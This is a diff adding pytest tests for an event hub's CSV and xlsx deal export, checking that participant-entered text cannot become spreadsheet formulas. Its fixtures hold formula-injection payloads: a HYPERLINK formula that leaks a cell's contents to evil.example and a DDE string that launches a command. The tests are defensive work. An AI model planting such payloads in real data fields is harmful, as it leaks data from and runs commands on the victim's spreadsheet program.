@@ -1,0 +1,202 @@
+"""The organiser's export: one row per deal with both parties' contact details, as CSV and xlsx.
+
+Whatever anyone typed stays text: a participant named ``=HYPERLINK(...)`` must not become a
+formula in the organiser's spreadsheet program (CSV/formula injection).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from hub import export
+from hub.service import Hub
+from kiosk.service import Kiosk
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
+EVIL_GIVES = "+1+cmd|' /C calc'!A0"
+EVIL_BROKER = "@SUM(1+1)"
+
+
+@pytest.fixture
+def evening(tmp_path: Path):
+    """A hub that has received one tablet's deals: a normal one, a voided one, a hostile one."""
+    hub = Hub(tmp_path / "hub")
+    hub.schedule_evening(
+        {
+            "name": "Frivilligbørs Sagene",
+            "date": "2026-11-26",
+            "opens_at": "17:45",
+            "closes_at": "18:45",
+            "target": 51,
+        }
+    )
+    people = {
+        name: hub.register_participant(
+            {
+                "name": name,
+                "sector": sector,
+                "contact_person": person,
+                "email": email,
+                "phone": phone,
+            }
+        )
+        for name, sector, person, email, phone in [
+            ("Sagene IF", "voluntary", "Ola Nordmann", "ola@sageneif.example", "+47 912 34 567"),
+            ("Bydel Sagene", "public", "Kari Nordmann", "kari@bydel.example", "23 45 67 89"),
+            (EVIL_NAME, "business", "-2+3", "mallory@evil.example", ""),
+        ]
+    }
+    kiosk = Kiosk(tmp_path / "kiosk", name="Nettbrett 1")
+    kiosk.absorb(hub.pull(0)["events"])
+
+    def deal(a, b, gives_a="Lokale", gives_b="Kurs", **kw):
+        return {
+            "parties": [
+                {"participant_id": people[a], "gives": gives_a},
+                {"participant_id": people[b], "gives": gives_b},
+            ],
+            "category": kw.get("category", "premises"),
+            "kind": "mutual",
+            "deadline": "2027-02-26",
+            "broker": kw.get("broker", "Kari"),
+        }
+
+    first = kiosk.register_deal(deal("Sagene IF", "Bydel Sagene"))
+    voided = kiosk.register_deal(deal("Bydel Sagene", "Sagene IF", category="equipment"))
+    kiosk.void_deal(voided.id, {"reason": "dobbel"})
+    hostile = kiosk.register_deal(
+        deal(EVIL_NAME, "Sagene IF", gives_a=EVIL_GIVES, gives_b="=1+2", broker=EVIL_BROKER)
+    )
+    hub.ingest({"device": str(kiosk.device_id), "events": kiosk.outbox(100)})
+    yield hub, {"first": first, "voided": voided, "hostile": hostile}
+    kiosk.close()
+    hub.close()
+
+
+def titles() -> list[str]:
+    return [title for _, title in export.COLUMNS]
+
+
+def by_number(rows: list[dict]) -> dict[str, dict]:
+    return {row["Nr."]: row for row in rows}
+
+
+def csv_rows(body: bytes) -> list[dict]:
+    assert body.startswith("\ufeff".encode())  # so Excel reads UTF-8
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+
+
+def xlsx_rows(body: bytes) -> tuple[list[str], list[dict], object]:
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    values = list(sheet.iter_rows(values_only=True))
+    header = list(values[0])
+    return header, [dict(zip(header, row, strict=True)) for row in values[1:]], sheet
+
+
+def test_one_csv_row_per_deal_with_contact_details(evening):
+    hub, deals = evening
+    rows = csv_rows(export.to_csv(export.deal_rows(hub)))
+    assert len(rows) == 3 and list(rows[0]) == titles()
+    row = by_number(rows)[deals["first"].number]
+    assert row["Part A"] == "Sagene IF" and row["Sektor A"] == "Frivillig"
+    assert row["Kontaktperson A"] == "Ola Nordmann"
+    assert row["E-post A"] == "ola@sageneif.example"
+    # A leading "+" would start a formula in Excel, so CSV escapes it too (the xlsx does not).
+    assert row["Telefon A"] == "'+47 912 34 567"
+    assert row["Part B"] == "Bydel Sagene" and row["Sektor B"] == "Offentlig"
+    assert row["E-post B"] == "kari@bydel.example"
+    assert (row["A gir"], row["B gir"]) == ("Lokale", "Kurs")
+    assert (row["Kategori"], row["Type"]) == ("Sted å være", "Gi og få")
+    assert row["Tidsfrist"] == "2027-02-26" and row["Børsmegler"] == "Kari"
+    assert row["Nettbrett"] == "Nettbrett 1" and row["Status"] == "ok"
+    assert by_number(rows)[deals["voided"].number]["Status"] == "annullert"
+
+
+def test_english_export_translates_the_vocabulary(evening):
+    hub, deals = evening
+    row = by_number(csv_rows(export.to_csv(export.deal_rows(hub, "en"))))[deals["first"].number]
+    assert (row["Sektor A"], row["Kategori"], row["Type"]) == (
+        "Voluntary",
+        "Premises",
+        "Give and take",
+    )
+
+
+def test_csv_escapes_anything_a_spreadsheet_would_run(evening):
+    hub, deals = evening
+    row = by_number(csv_rows(export.to_csv(export.deal_rows(hub))))[deals["hostile"].number]
+    assert row["Part A"] == "'" + EVIL_NAME
+    assert row["A gir"] == "'" + EVIL_GIVES
+    assert row["B gir"] == "'=1+2"
+    assert row["Børsmegler"] == "'" + EVIL_BROKER
+    assert row["Kontaktperson A"] == "'-2+3"
+    assert row["Part B"] == "Sagene IF"  # ordinary text is left alone
+
+
+def test_the_workbook_has_the_same_rows_as_the_csv(evening):
+    hub, _ = evening
+    rows = export.deal_rows(hub)
+    header, xlsx, sheet = xlsx_rows(export.to_xlsx(rows, "Frivilligbørs Sagene"))
+    assert header == titles()
+    as_csv = csv_rows(export.to_csv(rows))
+    for from_xlsx, from_csv in zip(xlsx, as_csv, strict=True):
+        for title in titles():
+            value = "" if from_xlsx[title] is None else str(from_xlsx[title])
+            assert value == from_csv[title].removeprefix("'") or from_csv[title] == value
+    assert sheet.title == "Avtaler" and sheet.freeze_panes == "A2"
+    assert xlsx[0]["Telefon A"] == "+47 912 34 567"
+
+
+def test_the_workbook_keeps_hostile_text_as_text(evening):
+    hub, deals = evening
+    body = export.to_xlsx(export.deal_rows(hub), "Frivilligbørs Sagene")
+    _, rows, sheet = xlsx_rows(body)
+    row = by_number(rows)[deals["hostile"].number]
+    assert row["Part A"] == EVIL_NAME  # exactly as typed, not escaped…
+    assert row["B gir"] == "=1+2"
+    for cells in sheet.iter_rows(min_row=2):
+        for cell in cells:
+            assert cell.data_type != "f"  # …and never a formula
+    with zipfile.ZipFile(io.BytesIO(body)) as package:
+        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+
+
+def test_a_deal_of_three_lists_the_third_party(tmp_path):
+    hub = Hub(tmp_path / "hub")
+    kiosk = Kiosk(tmp_path / "kiosk")
+    try:
+        ids = [hub.register_participant({"name": n, "sector": "voluntary"}) for n in "ABC"]
+        kiosk.absorb(hub.pull(0)["events"])
+        kiosk.register_deal(
+            {
+                "parties": [
+                    {"participant_id": pid, "gives": f"gave {i}"} for i, pid in enumerate(ids)
+                ],
+                "category": "culture",
+                "kind": "mutual",
+                "deadline": "2027-01-01",
+            }
+        )
+        hub.ingest({"device": str(kiosk.device_id), "events": kiosk.outbox(100)})
+        [row] = csv_rows(export.to_csv(export.deal_rows(hub)))
+        assert row["Flere parter"] == "C: gave 2"
+    finally:
+        kiosk.close()
+        hub.close()
+
+
+def test_an_empty_evening_exports_just_the_header(tmp_path):
+    hub = Hub(tmp_path / "hub")
+    try:
+        assert csv_rows(export.to_csv(export.deal_rows(hub))) == []
+        header, rows, _ = xlsx_rows(export.to_xlsx(export.deal_rows(hub), "Tom"))
+        assert header == titles() and rows == []
+    finally:
+        hub.close()
